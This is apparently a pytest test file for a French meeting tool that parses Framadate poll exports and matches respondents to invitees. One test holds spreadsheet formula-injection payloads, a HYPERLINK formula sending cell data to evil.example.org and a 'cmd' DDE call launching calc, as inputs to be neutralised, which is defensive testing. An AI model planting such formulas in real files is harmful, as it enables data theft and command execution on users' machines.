"""Framadate exports: the real format, old and hostile ones, and their mapping onto a meeting."""

from datetime import datetime

import pytest

from comite.store.meeting_models import Answer, AnswerSource
from comite.sync import names
from comite.sync.errors import InboxRefusal
from comite.sync.framadate import Certainty, match, parse_poll
from tests.sync.conftest import HOSTILE, REPLIES

YES, MAYBE, NO = Answer.YES, Answer.IF_NEED_BE, Answer.NO


def test_a_framadate_export_is_read_with_its_dates_times_and_answers():
    poll = parse_poll((REPLIES / "framadate-export.csv").read_bytes())
    assert [column.starts_at for column in poll.columns] == [
        datetime(2027, 1, 12, 18, 0), datetime(2027, 1, 12, 20, 30), datetime(2027, 7, 13, 18, 0)]
    assert [column.label for column in poll.columns] == [
        "12/01/2027 18h", "12/01/2027 20h30", "13/07/2027 18:00"]
    assert poll.rows[0] == ("Jeanne Dupont", (YES, NO, MAYBE))
    assert poll.rows[-1] == ("ahmed benali", (None, YES, NO))  # an empty cell: no answer
    assert len(poll.rows) == 7
    assert poll.warnings == ()


def test_an_old_studs_export_reads_ok_and_empty_as_yes_and_no():
    poll = parse_poll((REPLIES / "studs-legacy.csv").read_bytes())
    assert [column.starts_at for column in poll.columns] == [
        datetime(2027, 1, 12, 18, 0), datetime(2027, 1, 12, 20, 30), datetime(2027, 7, 13, 18, 0)]
    assert poll.rows == (("Jeanne Dupont", (YES, NO, YES)), ("Pierre Martin", (NO, YES, NO)))


def csv(*lines: str, encoding: str = "utf-8") -> bytes:
    return ("\r\n".join(lines) + "\r\n").encode(encoding)


@pytest.mark.parametrize(("date_cell", "time_cell", "expected"), [
    ("12/01/2027", "18h00", datetime(2027, 1, 12, 18, 0)),
    ("2027-01-12", "18:30", datetime(2027, 1, 12, 18, 30)),
    ("mardi 12 janvier 2027", "18 h 30", datetime(2027, 1, 12, 18, 30)),
    ("mar. 12 janv. 2027", "8h-10h", datetime(2027, 1, 12, 8, 0)),
    ("12.01.27", "midi", datetime(2027, 1, 12, 12, 0)),
])
def test_dates_and_times_as_framadate_versions_and_authors_write_them(date_cell, time_cell, expected):
    poll = parse_poll(csv(f',"{date_cell}",', f',"{time_cell}",', '"Jeanne Dupont","Oui",'))
    assert poll.columns[0].starts_at == expected


def test_a_time_the_author_wrote_in_words_has_no_hour():
    poll = parse_poll(csv(',"12/01/2027",', ',"soir",', '"Jeanne Dupont","Oui",'))
    assert poll.columns[0].at is None and poll.columns[0].starts_at is None


def test_answers_in_every_known_spelling_and_unknown_ones_are_said():
    poll = parse_poll(csv(";2027-01-12;2027-01-13;2027-01-14;2027-01-15",
                          "Jeanne Dupont;Yes;Under reserve;No;peut-être"))
    assert poll.rows[0].answers == (YES, MAYBE, NO, None)
    assert poll.warnings == ("« peut-être » n’est pas une réponse connue (1 case) : compté comme "
                             "« pas de réponse ».",)


def test_formula_injection_in_names_is_neutralised_and_said():
    poll = parse_poll((HOSTILE / "formula-injection.csv").read_bytes())
    shown = [row.name for row in poll.rows]
    assert shown == ["Jeanne Dupont", 'HYPERLINK("http://evil.example.org/?d="&A1,"Pierre Martin")',
                     "SUM(1+1)*cmd|' /C calc'!A0", "33 6 39 98 00 00", "1+2"]
    assert not any(name.startswith(("=", "+", "-", "@", "'", "\t", "\r")) for name in shown)
    assert len(poll.warnings) == 4
    assert all("caractère de formule de tableur" in warning for warning in poll.warnings)


def test_a_windows_1252_export_is_read_and_said():
    poll = parse_poll((HOSTILE / "excel-cp1252.csv").read_bytes())
    assert poll.rows[1].name == "Hélène Faure"
    assert poll.rows[0].answers == (YES, NO, MAYBE)
    assert "Windows-1252" in poll.warnings[0]


@pytest.mark.parametrize(("name", "said"), [
    ("excel-utf16.csv", "UTF-16"),
    ("missing-columns.csv", "Ligne 4 : 1 cases pour les réponses alors que le sondage a 3 colonnes"),
    ("no-dates.csv", "sa première ligne devrait porter les dates"),
])
def test_hostile_exports_are_refused_in_french(name, said):
    with pytest.raises(InboxRefusal) as refused:
        parse_poll((HOSTILE / name).read_bytes())
    assert said in refused.value.reason
    assert refused.value.advice


@pytest.mark.parametrize(("data", "said"), [
    (b"", "vide"),
    (csv(',"12/01/2027","31/02/2027",', '"Jeanne Dupont","Oui","Non",'), "Colonne 3 : « 31/02/2027 »"),
    (csv(',"12/01/2027",'), "aucune réponse"),
    (csv(',"12/01/2027",', '"Jeanne Dupont","Oui","Non",'), "1 colonnes"),
    (b',"12/01/2027",\r\n"Jeanne, "Oui",\r\n', "mal formé"),
])
def test_broken_exports_are_refused(data, said):
    with pytest.raises(InboxRefusal, match=said):
        parse_poll(data)


# ---- names -------------------------------------------------------------------------------

@pytest.mark.parametrize(("typed", "known", "same"), [
    ("Jeanne Dupont", "Jeanne Dupont", True),
    ("DUPONT jeanne", "Jeanne Dupont", True),
    ("Le Gall Marie-Claire", "Marie-Claire Le Gall", True),
    ("Hélène Faure", "helene faure", True),
    ("Jeanne", "Jeanne Dupont", False),
    ("Jeanne Dupont Martin", "Jeanne Dupont", False),
])
def test_same_name_in_either_order_after_folding(typed, known, same):
    assert names.same_name(names.words(typed), names.words(known)) is same


@pytest.mark.parametrize(("typed", "known", "score"), [
    ("J. Dupont", "Jeanne Dupont", 2),
    ("Dupont J", "Jeanne Dupont", 2),
    ("Dupont", "Jeanne Dupont", 2),
    ("Jean Dupont", "Jeanne Dupont", 1),
    ("J. D.", "Jeanne Dupont", 0),
    ("Pierre Martin", "Jeanne Dupont", 0),
])
def test_resemblance(typed, known, score):
    assert names.resemblance(names.words(typed), names.words(known)) == score


# ---- onto the meeting --------------------------------------------------------------------

def test_columns_map_to_the_proposed_slots_and_names_to_invitees(poll):
    plan = match(parse_poll((REPLIES / "framadate-export.csv").read_bytes()), poll.detail())
    assert [column.slot_id for column in plan.columns] == [
        poll.slots["janvier"].id, poll.slots["janvier-soir"].id, poll.slots["juillet"].id]
    assert plan.unmatched_columns == ()
    found = {match.name: (match.certainty, match.invitee_id, set(match.candidates)) for match in plan.names}
    ids = {name: invitee.id for name, invitee in poll.invitees.items()}
    assert found["Jeanne Dupont"] == (Certainty.SURE, ids["Jeanne"], {ids["Jeanne"]})
    assert found["MARTIN Pierre"][:2] == (Certainty.SURE, ids["Pierre"])
    assert found["Le Gall Marie-Claire"][:2] == (Certainty.SURE, ids["Marie-Claire"])
    assert found["ahmed benali"][:2] == (Certainty.SURE, ids["Ahmed"])
    assert found["J. Dupont"] == (Certainty.UNSURE, None, {ids["Jeanne"], ids["Jean"]})
    assert found["Nguyen"] == (Certainty.UNSURE, None, {ids["Sophie"]})
    assert found["Hélène Faure"] == (Certainty.UNKNOWN, None, set())
    assert not plan.all_sure


def test_two_rows_for_the_same_person_both_need_confirmation(poll):
    data = csv(',"12/01/2027",', ',"18h",', '"Jeanne Dupont","Oui",', '"DUPONT Jeanne","Non",')
    plan = match(parse_poll(data), poll.detail())
    assert [m.certainty for m in plan.names] == [Certainty.UNSURE, Certainty.UNSURE]
    assert all(m.candidates == (poll.invitees["Jeanne"].id,) for m in plan.names)


def test_a_column_without_a_slot_is_listed(poll):
    data = csv(',"12/01/2027","14/01/2027","13/07/2027",', ',"18h","18h","soir",',
               '"Jeanne Dupont","Oui","Oui","Oui",')
    plan = match(parse_poll(data), poll.detail())
    assert [column.label for column in plan.unmatched_columns] == ["14/01/2027 18h"]
    # « soir » has no hour: the only proposed slot that day is taken, and that is said.
    assert plan.columns[2].slot_id == poll.slots["juillet"].id
    assert "n’a pas d’heure" in plan.warnings[0]


def test_answers_take_the_sure_names_and_the_confirmed_ones_then_import(poll):
    plan = match(parse_poll((REPLIES / "framadate-export.csv").read_bytes()), poll.detail())
    rows = {m.name: m.row for m in plan.names}
    jean, sophie = poll.invitees["Jean"].id, poll.invitees["Sophie"].id
    answers = plan.answers({rows["J. Dupont"]: jean, rows["Nguyen"]: sophie,
                            rows["ahmed benali"]: None})
    january, evening, july = (poll.slots[name].id for name in ("janvier", "janvier-soir", "juillet"))
    assert answers == {
        poll.invitees["Jeanne"].id: {january: YES, evening: NO, july: MAYBE},
        poll.invitees["Pierre"].id: {january: YES, evening: YES, july: NO},
        poll.invitees["Marie-Claire"].id: {january: NO, evening: MAYBE, july: YES},
        jean: {january: YES, evening: YES, july: YES},
        sophie: {january: NO, evening: NO, july: YES},
    }
    assert poll.store.meetings.import_votes(poll.meeting_id, answers, source=AnswerSource.FRAMADATE) == 15
    detail = poll.detail()
    assert poll.answer("Jean", "juillet") is YES
    assert poll.answer("Ahmed", "janvier-soir") is None  # left out by the coordinator
    assert {vote.source for vote in detail.votes} == {AnswerSource.FRAMADATE}


def test_one_person_for_two_rows_is_refused(poll):
    plan = match(parse_poll((REPLIES / "framadate-export.csv").read_bytes()), poll.detail())
    rows = {m.name: m.row for m in plan.names}
    with pytest.raises(InboxRefusal, match="même personne"):
        plan.answers({rows["J. Dupont"]: poll.invitees["Jeanne"].id})


def test_a_confirmation_must_name_an_invitee_and_a_row(poll):
    plan = match(parse_poll((REPLIES / "framadate-export.csv").read_bytes()), poll.detail())
    with pytest.raises(InboxRefusal, match="pas invitée"):
        plan.answers({0: 10_000})
    with pytest.raises(InboxRefusal, match="n’existe pas"):
        plan.answers({99: poll.invitees["Jean"].id})
